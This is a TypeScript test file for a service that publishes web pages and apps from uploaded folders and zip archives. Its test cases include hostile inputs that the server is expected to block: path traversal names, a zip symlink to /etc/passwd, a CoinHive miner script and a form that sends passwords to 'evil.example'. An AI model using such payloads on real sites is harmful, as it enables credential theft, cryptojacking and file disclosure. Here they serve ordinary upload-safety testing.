import { expect, test } from 'bun:test'

import { type Zippable, zipSync } from 'fflate'

import { expectError } from '../../testing/expect-error.ts'
import { FormBrowser, hiddenFields, origin, signUp } from '../../testing/fixtures/form-browser.ts'
import { startTestServer, type TestServer } from '../../testing/fixtures/test-server.ts'

const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text)

/** Sends the form to publish a page with a file. */
async function upload(t: TestServer, browser: FormBrowser, file: File) {
  const body = new FormData()
  const fields = hiddenFields(await browser.read('/new'), '/new/page')
  for (const [name, value] of Object.entries({ ...fields, html: '' })) body.set(name, value)
  body.set('file', file)
  const multipart = new Response(body)
  const cookie = ['berth', 'berth_form'].map((name) => `${name}=${browser.cookie(name)}`).join('; ')
  const headers = {
    'content-type': multipart.headers.get('content-type') ?? '',
    origin,
    cookie,
  }
  return t.request('POST', '/new/page', { body: await multipart.bytes(), headers })
}

test('publishes a zip with its assets, and nothing of a bad one', async () => {
  const t = await startTestServer()
  const bea = await signUp(t, 'bea')
  const zip = (files: Record<string, string>) =>
    new File(
      [
        new Uint8Array(
          zipSync(
            Object.fromEntries(Object.entries(files).map(([path, text]) => [path, bytesOf(text)])),
          ),
        ),
      ],
      'page.zip',
    )
  const before = await t.snapshot()
  for (const [status, file, problem] of [
    [400, zip({ 'a.html': '<h1>A', 'b.html': '<h1>B' }), 'Which page is the first?'],
    [400, zip({ 'readme.txt': 'A' }), 'There is no HTML file.'],
    [400, new File(['PK nothing'], 'page.zip'), 'the zip cannot be read'],
  ] as const) {
    const failed = await upload(t, bea, file)
    expect([failed.status, String(failed.body)]).toEqual([status, expect.stringContaining(problem)])
  }
  const guest = await upload(t, new FormBrowser(t), zip({ 'index.html': '<h1>A', 'a.json': '1' }))
  expect(guest.status).not.toBe(303)
  expect(await t.snapshot()).toEqual(before)
  const good = zip({ 'game/index.html': '<title>Reef</title><h1>Reef', 'game/a.json': '{"a":1}' })
  const done = await upload(t, bea, good)
  const id = (done.headers.get('location') ?? '').split('/')[2] ?? ''
  expect(done.status).toBe(303)
  expect(await bea.read(`/studio/${id}/assets`)).toContain('a.json')
  const archive = await bea.open(`/studio/${id}/export`)
  expect(archive.headers.get('content-disposition')).toBe(`attachment; filename="${id}.zip"`)
  const carl = await signUp(t, 'carl')
  expect((await carl.open(`/studio/${id}/export`)).status).toBe(404)
  await t.close()
})

const json = { path: 'data/levels.json', text: '{"level":1}' }
const page = {
  path: 'index.html',
  text: '<title>Reef</title><script src="game.js"></script><link rel=stylesheet href=/style.css>',
}
const game = { path: 'game.js', text: "fetch('data/levels.json')" }
const style = { path: 'style.css', text: 'p{color:teal}' }
const files = [page, game, style, json, { path: 'README.md', text: 'Notes' }]
const zipOf = (folder: Zippable): Uint8Array<ArrayBuffer> => new Uint8Array(zipSync(folder))
const zipType = { 'content-type': 'application/zip' }

test('agents publish a folder as files or as a zip, and then its next version', async () => {
  const t = await startTestServer()
  const [ann, bob] = [await t.agent('ann'), await t.agent('bob')]
  const before = await t.snapshot()
  const dry = await ann.call('POST', '/apps', { files, dryRun: true })
  expect([dry.status, await t.snapshot()]).toEqual([200, before])

  const made = await ann.call('POST', '/apps', { files, ref: 'reef-0001' })
  expect([made.status, made.text('app.title')]).toEqual([201, 'Reef'])
  expect(made.text('note')).toContain(
    'Its files: game.js, style.css, data/levels.json, README.md. These names began with a slash and are relative now: /style.css.',
  )
  const id = made.text('app.id')
  const html = String((await ann.call('GET', `/apps/${id}/html`)).body)
  expect(html).toBe(page.text.replace('/style.css', './style.css'))

  // The same folder as a zip is the same request.
  const zip = zipOf(
    Object.fromEntries(files.map(({ path, text }) => [`reef/${path}`, bytesOf(text)])),
  )
  const again = await ann.call('POST', '/apps?ref=reef-0001', zip, zipType)
  expect(again.body).toEqual(made.body)
  const other = zipOf({ 'index.html': bytesOf('<h1>Other') })
  await expectError(t, 409, 'ref_conflict', () =>
    ann.call('POST', '/apps?ref=reef-0001', other, zipType),
  )

  // A version keeps the assets of the last one, and replaces those of the same name.
  const next = { files: [page, game, style, { ...json, text: '{"level":2}' }] }
  await ann.call('PUT', `/apps/${id}/assets/extra.json`, bytesOf('[]'))
  const path = `/apps/${id}/versions`
  expect((await ann.call('POST', path, next)).status).toBe(201)
  const level = await ann.call('GET', `/apps/${id}/assets/data%2Flevels.json`)
  expect(level.body).toEqual({ level: 2 })
  const list = await ann.call('GET', `/apps/${id}/assets`)
  expect(Object(list.body).assets.map(({ name }: { name: string }) => name)).toEqual([
    'README.md',
    'data/levels.json',
    'extra.json',
    'game.js',
    'style.css',
  ])
  const [file] = Object(list.body).assets
  expect(file).toMatchObject({ kind: 'file', type: 'text/markdown; charset=utf-8', bytes: 5 })
  expect((await t.request('GET', new URL(file.url).pathname + new URL(file.url).search)).body).toBe(
    'Notes',
  )
  const third = await ann.call('POST', `${path}?note=Third&store=true`, other, zipType)
  expect([third.status, third.code]).toEqual([400, 'bad_request'])
  const good = await ann.call('POST', `${path}?note=Third`, other, zipType)
  expect(good.body).toMatchObject({ app: { version: 3 } })
  await expectError(t, 404, 'not_found', () => bob.call('POST', path, next))
  await t.close()
})

const mb = 1_048_576
const index = bytesOf('<h1>Reef')
const many = Array.from({ length: 2_000 }, (_, at) => [`${at}.json`, bytesOf('1')])
const fiveLarge = Array.from({ length: 5 }, (_, at) => [`${at}.bin`, new Uint8Array(21 * mb)])
/** Bodies that are not published, and what their errors say. */
const bodies: [status: number, code: string, text: string, body: unknown][] = [
  [400, 'bad_request', '"../a.js" is invalid', { files: [page, { ...game, path: '../a.js' }] }],
  [400, 'bad_request', 'there twice', { files: [page, game, { ...game, path: 'Game.js' }] }],
  [
    400,
    'bad_request',
    'Which page is the first?',
    {
      files: [
        { ...page, path: 'a.html' },
        { ...page, path: 'b.html' },
      ],
    },
  ],
  [400, 'bad_request', 'exactly one of', { files, html: '<h1>Reef' }],
  [400, 'bad_request', 'exactly one of', { files: [{ ...page, base64: 'YQ==' }] }],
  [400, 'bad_request', 'cannot be decoded', { files: [{ path: 'a.html', base64: '*' }] }],
  [400, 'bad_request', '"files"', { files: [] }],
  [
    409,
    'too_many_assets',
    'would have 2,001 files. The limit is 2,000.',
    { files: [page, ...many.map(([path]) => ({ path, text: '1' })), json] },
  ],
  [
    422,
    'blocked_by_scan',
    'js/miner.js',
    {
      files: [
        { path: 'a.html', text: '<script src=js/miner.js></script>' },
        { path: 'js/miner.js', text: "new CoinHive.Anonymous('key').start()" },
      ],
    },
  ],
  [
    413,
    'asset_too_large',
    'big/a.txt: 25.1 MB is over the limit of 25 MB',
    { files: [page, { path: 'big/a.txt', text: 'a'.repeat(25 * mb + 1) }] },
  ],
  [
    422,
    'blocked_by_scan',
    'safety check',
    {
      files: [
        json,
        {
          path: 'a.html',
          text: '<form action="https://evil.example"><input type=password></form>',
        },
      ],
    },
  ],
  [400, 'bad_request', 'invalid path', zipOf({ 'index.html': index, '../a.js': index })],
  [
    400,
    'bad_request',
    'link or a special file',
    zipOf({
      'index.html': index,
      'a.json': [bytesOf('/etc/passwd'), { os: 3, attrs: 0o120777 << 16 }],
    }),
  ],
  [
    400,
    'bad_request',
    'it has 2,001 files. The limit is 2,000.',
    zipOf({ 'index.html': index, ...Object.fromEntries(many) }),
  ],
  [
    413,
    'asset_too_large',
    'a.bin: 25.1 MB is over the limit of 25 MB',
    zipOf({ 'index.html': index, 'a.bin': new Uint8Array(25 * mb + 1) }),
  ],
  [
    413,
    'too_large',
    'is over the limit of 100 MB',
    zipOf({ 'index.html': index, ...Object.fromEntries(fiveLarge) }),
  ],
  [413, 'too_large', 'is over the limit of 104 MB', new Uint8Array(104 * mb + 1)],
  [400, 'bad_request', 'cannot be read', bytesOf('PK no zip')],
]

test('a folder that cannot be published stores nothing', async () => {
  const t = await startTestServer()
  const ann = await t.agent('ann')
  const id = await ann.publish()
  for (const [at, [status, code, text, body]] of bodies.entries()) {
    for (const path of at % 8 === 0 ? ['/apps', `/apps/${id}/versions`] : ['/apps']) {
      const headers = body instanceof Uint8Array ? zipType : {}
      const failed = await expectError(t, status, code, () => ann.call('POST', path, body, headers))
      expect(JSON.stringify(failed.body)).toContain(JSON.stringify(text).slice(1, -1))
    }
  }
  const zip = zipOf({ 'index.html': index })
  for (const query of ['?store=yes', '?colour=blue', '?prompt=A+fox']) {
    await expectError(t, 400, 'bad_request', () => ann.call('POST', `/apps${query}`, zip, zipType))
  }
  await expectError(t, 401, 'no_key', () =>
    t.call('POST', '/apps', { body: zip, headers: zipType }),
  )
  await t.close()
})

test('publishes a folder of 2,000 files, its next version, and a remix', async () => {
  const t = await startTestServer()
  const [ann, ben] = [await t.agent('ann'), await t.agent('ben')]
  const files = Object.fromEntries(
    Array.from({ length: 1_999 }, (_, at) => [`data/${at}.json`, bytesOf(`[${at}]`)]),
  )
  const zip = zipOf({ 'index.html': index, ...files })
  const made = await ann.call('POST', '/apps?title=Reef&store=true', zip, zipType)
  expect([made.status, made.text('app.id')]).toEqual([201, expect.any(String)])
  const id = made.text('app.id')
  const next = { files: [page, { path: 'data/7.json', text: '[]' }] }
  expect((await ann.call('POST', `/apps/${id}/versions`, next)).status).toBe(201)
  const list = await ann.call('GET', `/apps/${id}/assets`)
  expect(list.body).toMatchObject({
    used: { files: 1_999 },
    limits: { fileBytes: 4 * mb, files: 2_000, appBytes: 100 * mb },
  })
  expect((await ann.call('PUT', `/apps/${id}/assets/one.json`, '[1]')).status).toBe(201)
  await expectError(t, 409, 'too_many_assets', () =>
    ann.call('PUT', `/apps/${id}/assets/two.json`, '[1]'),
  )
  const copy = await ben.call('POST', `/apps/${id}/remix`, {})
  expect(copy.status).toBe(201)
  const copied = await ben.call('GET', `/apps/${copy.text('app.id')}/assets`)
  expect(copied.body).toMatchObject({ used: { files: 2_000 } })
  await t.close()
}, 60_000)

test('a publish says which scripts start threads', async () => {
  const t = await startTestServer()
  const ann = await t.agent('ann')
  const memory = (more: string): string =>
    `m=new WebAssembly.Memory({initial:a/65536,"maximum":9${more}});`
  const folder = (engine: string) => [
    page,
    { path: 'index.js', text: memory(engine) },
    { path: 'b.js', text: memory('') },
  ]
  for (const shared of [',"shared":true', ',shared:!0']) {
    const made = await ann.call('POST', '/apps', { files: folder(shared) })
    expect(made.text('note')).toContain('export it without threads: index.js.')
  }
  const single = await ann.call('POST', '/apps', { files: folder('') })
  expect(single.text('note')).not.toContain('threads')
  await t.close()
}, 60_000)

test('the limits of a folder are settings', async () => {
  const t = await startTestServer({
    FOLDER_FILES: '2',
    FOLDER_BYTES: `${2 * mb}`,
    FOLDER_FILE_BYTES: `${mb}`,
  })
  const ann = await t.agent('ann')
  for (const [status, code, why, files] of [
    [409, 'too_many_assets', 'would have 3 files. The limit is 2.', [page, game, style, json]],
    [413, 'asset_too_large', 'limit of 1 MB', [page, { ...game, text: ' '.repeat(mb + 1) }]],
  ] as const) {
    const failed = await expectError(t, status, code, () => ann.call('POST', '/apps', { files }))
    expect(JSON.stringify(failed.body)).toContain(why)
  }
  expect((await ann.call('POST', '/apps', { files: [page, game, json] })).status).toBe(201)
  await t.close()
})

test('warnings name files that the folder does not have, at each version of it', async () => {
  const t = await startTestServer()
  const ann = await t.agent('ann')
  const files = {
    'index.html': '<link rel=stylesheet href=css/a.css><img src="a%20b.png"><img src=gone.png>',
    'css/a.css': 'h1{background:url(../art/sky.png)} p{background:url(art/sky.png)}',
    'js/a.js': "fetch('data.json?v=2'); fetch('none.json')",
    'a b.png': 'a',
    'art/sky.png': 'a',
    'data.json': '{}',
  }
  const zip = zipSync(
    Object.fromEntries(Object.entries(files).map(([path, text]) => [path, bytesOf(text)])),
  )
  const type = { 'content-type': 'application/zip' }
  const missing = (names: string[]) => ({
    scan: {
      warnings: names.map((name) => ({
        code: 'net.external',
        help: expect.stringContaining(`${name} does not load here`),
      })),
    },
  })
  const published = await ann.call('POST', '/apps', zip, type)
  const id = published.text('app.id')
  expect(published.body).toMatchObject(missing(['gone.png', 'art/sky.png', 'none.json']))
  const html = '<img src="art/sky.png"><img src=lost.png>'
  const next = await ann.call('POST', `/apps/${id}/versions`, { html })
  expect(next.body).toMatchObject(missing(['lost.png', 'art/sky.png', 'none.json']))
  await t.close()
})
